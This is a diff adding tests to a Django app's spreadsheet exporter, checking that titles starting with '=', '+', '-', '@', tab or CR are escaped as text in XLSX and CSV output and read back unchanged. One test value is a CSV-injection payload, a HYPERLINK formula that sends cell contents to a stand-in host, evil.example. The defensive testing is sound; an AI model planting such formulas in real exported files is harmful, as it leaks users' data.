@@ -1,14 +1,16 @@
 """Export in the import's layout: export → import → export gives the same sheets, and
 nobody exports what they may not see."""
 
+import io
 from collections import Counter
 from datetime import datetime
 
+import openpyxl
 import pytest
 import time_machine
 from django.utils import timezone
 
-from lodestar.exchange.exporter import csv_zip_bytes, export_rows, xlsx_bytes
+from lodestar.exchange.exporter import csv_files, csv_zip_bytes, export_rows, xlsx_bytes
 from lodestar.exchange.importer import import_book
 from lodestar.exchange.reader import read, read_bytes
 from lodestar.exchange.template import starter_path, template_workbook
@@ -106,3 +108,41 @@ def test_an_import_leaves_the_scores_a_full_recompute_and_the_writes_one_by_one_
     recompute_all()
     assert stored_scores() == imported
     assert scores_without_ids() == written_one_by_one
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)"]
+
+
+def test_cells_that_look_like_formulas_export_as_text_and_import_back_unchanged(world):
+    """A title a member writes is data in the admin's export, never a formula (the OWASP
+    rule); a negative number stays a number; the import reads each back as written."""
+    for title in FORMULAS:
+        objective_create(acting=None, cycle=world.cycle, title=title, unit=world.sales)
+    rows = export_rows(acting=None)
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(rows)))["objectives"]
+    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row if c.value in FORMULAS}
+    assert set(cells) == set(FORMULAS)
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells.values())
+    files = csv_files(rows)
+    text = files["objectives.csv"].decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and ",'+1+1," in text and ",'-2+3," in text
+    assert ",'@SUM(A1)," in text
+    for data, name in ((xlsx_bytes(rows), "e.xlsx"), (csv_zip_bytes(rows), "e.zip")):
+        titles = {row[2] for _, row in read_bytes(data, name).tables["objectives"].rows}
+        assert set(FORMULAS) <= titles
+
+
+def test_a_negative_number_stays_a_number_and_tab_or_cr_starts_are_escaped():
+    rows = {"measure_values": [["m", "2026-01-01", -5.0, None]], "units": [["\tu", "\rU", None]]}
+    files = csv_files(rows)
+    assert files["measure_values.csv"].decode("utf-8-sig").splitlines()[1] == "m,2026-01-01,-5,"
+    assert files["units.csv"].decode("utf-8-sig").split("\n")[1] == "'\tu,'\rU,"
+    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(rows)))["measure_values"]
+    assert sheet["C2"].value == -5 and sheet["C2"].data_type == "n"
+
+
+def test_a_text_that_starts_with_the_escape_itself_reads_back_unchanged():
+    rows = {"units": [["'=u", "'plain", None]]}
+    data = csv_zip_bytes(rows)
+    [(_, values)] = read_bytes(data, "e.zip").tables["units"].rows
+    assert values[:2] == ["'=u", "'plain"]
